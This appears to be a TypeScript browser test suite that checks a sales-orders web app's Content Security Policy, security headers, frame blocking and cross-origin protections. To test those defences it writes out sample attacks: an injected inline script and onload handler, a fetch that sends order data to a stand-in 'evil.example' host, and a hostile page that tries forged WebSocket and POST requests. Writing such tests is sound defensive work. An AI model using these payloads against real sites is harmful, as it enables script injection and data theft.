import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { expect, it, onTestFinished } from 'vitest'
import { openPage, useBrowser } from './testing/people.ts'
import { RunningExample } from './testing/running-example.ts'

useBrowser()

/** What the page was kept from doing, by the directive that forbids it. */
async function violationsOf(page: Page, tryOut: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      seen.push(effectiveDirective)
      Object.assign(globalThis, { seen })
    })
  })
  await page.evaluate(tryOut)
  await page.waitForFunction(() => 'seen' in globalThis)
  return page.evaluate(() => (globalThis as unknown as { seen: string[] }).seen)
}

const refused = /Content Security Policy|violates the following/

it('says on each of its files what may be done with it', async () => {
  const example = await RunningExample.start()
  const text = await (await fetch(example.url())).text()
  expect(text).not.toMatch(/<script(?![^>]* src=)|<style| style=| on\w+=/)
  const script = /src="\/(assets\/[^"]+)"/.exec(text)?.[1]
  for (const path of ['', 'index.html', 'orders/none', script!, 'service-worker.js', 'theme.js']) {
    const { status, headers } = await fetch(example.url(path))
    expect(status).toBe(200)
    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none'; /)
    expect(headers.get('content-security-policy')).not.toContain('unsafe')
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('referrer-policy')).toBe('no-referrer')
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin')
  }
})

it('runs no script that somebody has smuggled in, and sends nothing elsewhere', async () => {
  const example = await RunningExample.start()
  const open = async () => {
    const page = await openPage({ expected: refused })
    await page.goto(example.url())
    await page.getByText('No orders yet').waitFor()
    return page
  }
  const inline = await open()
  const smuggled = () => {
    const script = document.createElement('script')
    script.textContent = "document.title = 'smuggled'"
    document.body.append(script)
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/icon.svg" onload="document.title = \'smuggled\'">',
    )
  }
  expect(await violationsOf(inline, smuggled)).toEqual(expect.arrayContaining(['script-src-elem']))
  expect(await inline.title()).toBe('Sales orders')
  const elsewhere = await open()
  const send = () => fetch('https://evil.example/?order=1').catch(() => {})
  expect(await violationsOf(elsewhere, send)).toEqual(['connect-src'])
})

/** The address of a page of another site, which somebody has made to get at the example. */
async function evilPage(html: string): Promise<string> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(html)
  })
  onTestFinished(() => void server.close())
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return `http://evil.example:${(server.address() as AddressInfo).port}/`
}

it('cannot be shown in a frame of another page', async () => {
  const example = await RunningExample.start()
  const address = await evilPage(`<iframe src="${example.url()}"></iframe>`)
  const page = await openPage({ expected: refused })
  await page.goto(address)
  await expect.poll(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/')
})

it('has a server that pages of elsewhere cannot use', async () => {
  const example = await RunningExample.start()
  const address = await evilPage('<p>Look at this.</p>')
  const page = await openPage({ expected: /blocked by CORS policy|Failed to load resource/ })
  await page.goto(address)
  const tried = await page.evaluate(
    async ([http, webSocket]) => {
      const wasHeard = (heard: Promise<unknown>) =>
        heard.then(
          () => true,
          () => false,
        )
      const opening = (protocols: string[]) =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(webSocket!, protocols)
          socket.addEventListener('open', resolve)
          socket.addEventListener('error', reject)
        })
      const action = JSON.stringify({ type: 'salesOrder/created', payload: { id: 'evil', customer: 'Eve' } })
      const headers = { 'content-type': 'application/json' }
      return {
        sync: await wasHeard(opening(['foldback.v1'])),
        plain: await wasHeard(opening([])),
        read: await wasHeard(fetch(`${http}records/salesOrder`)),
        sent: await wasHeard(fetch(`${http}actions`, { method: 'POST', headers, body: action })),
        sentBlindly: await wasHeard(
          fetch(`${http}actions`, { method: 'POST', mode: 'no-cors', body: action }).then(() => {
            throw new Error('nothing can be read of the answer')
          }),
        ),
      }
    },
    [example.url(), example.webSocketUrl],
  )
  expect(new Set(Object.values(tried))).toEqual(new Set([false]))
  expect(await example.events('evil')).toEqual([])
})
